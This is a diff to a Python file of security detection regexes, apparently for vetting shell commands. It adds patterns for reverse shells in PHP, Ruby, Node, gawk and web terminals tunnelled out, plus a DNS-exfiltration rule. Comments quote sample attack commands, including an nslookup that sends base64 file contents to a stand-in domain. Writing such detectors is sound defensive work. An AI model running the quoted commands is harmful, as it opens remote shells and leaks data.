@@ -168,6 +168,31 @@ PATTERNS: Final[tuple[Pattern, ...]] = (
           | \bNet\.Sockets\.TCPClient\s*\(
           | \bexec\s+\d+<>/dev/tcp/
           | /dev/tcp/[\w.-]{{1,253}}/\d{{1,5}}
+            # PHP, Ruby and Node: a socket to a host and a shell or a process on it
+          | \bfsockopen\s*\([^\n]{{0,200}}?
+            \b(?:exec|shell_exec|system|passthru|proc_open|popen)\s*\(
+          | \bTCPSocket\.(?:new|open)\s*\([^\n]{{0,200}}?\b(?:exec|spawn|system|IO\.popen)\b
+          | \bnet\.(?:connect|createConnection)\s*\([^\n]{{0,300}}?
+            \b(?:child_process|spawn\s*\(\s*["'](?:/bin/)?(?:ba)?sh)
+            # gawk's network files: awk 'BEGIN{{s="/inet/tcp/0/host/4242"; ...}}'
+          | /inet/tcp/\d{{1,5}}/[\w.-]{{1,253}}/\d{{1,5}}
+            # a shell served on the web and tunnelled out: "ttyd -W bash & ngrok tcp 7681"
+          | \b(?:ttyd|gotty)\b[^\n]{{0,80}}?\b(?:ba|z)?sh\b[^\n]{{0,200}}?
+            \b(?:ngrok|cloudflared|bore|localtunnel)\b
+        """),
+    ),
+    # WHY: data sent out in DNS lookups: a command's output made into the name looked up
+    # ("nslookup $(head -c 60 FILE | base64).x.example"); a plain "dig example.com" passes.
+    Pattern(
+        pattern_id="dns_exfiltration",
+        category="exfiltration",
+        scopes=ALL,
+        reason="sends data out inside the names it looks up in DNS (exfiltration)",
+        views=COMMAND,
+        negatable=True,
+        regex=ascii_regex(r"""
+            \b(?:nslookup|dig|host|drill|ping|resolvectl\s+query)\b[^\n|;&]{0,40}?
+            (?:\$\(|`)[^\n]{1,200}?(?:\)|`)[\w.-]{0,60}\.[a-z0-9-]{1,63}\.[a-z]{2,24}\b
         """),
     ),
     # WHY: sudoers, git hooks, PROMPT_COMMAND, the Windows Run key and scheduled tasks persist.
